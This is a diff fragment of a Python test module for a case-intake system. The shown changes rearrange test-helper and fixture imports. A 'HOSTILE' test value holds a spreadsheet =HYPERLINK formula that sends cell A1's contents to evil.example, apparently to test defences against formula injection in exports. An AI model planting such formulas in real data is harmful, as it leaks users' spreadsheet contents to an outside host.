@@ -15,8 +15,8 @@ from intake.case import cases
 from intake.case.complaints import NewComplaint, create_complaint
 from intake.foundation.models import AuditEntry, CaseFacts, ClaimLine, Complaint, Site
 from intake.supervision.ledger import HEADER, LINES_HEADER
-from tests.helpers import login, make_accounts
-from tests.test_cases import ctx, routed, site, worker_pass  # noqa: F401  (site is a fixture)
+from tests.helpers import ctx, login, make_accounts, routed, worker_pass
+from tests.test_cases import site  # noqa: F401  (fixtures)
 
 HOSTILE = {
     "name": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
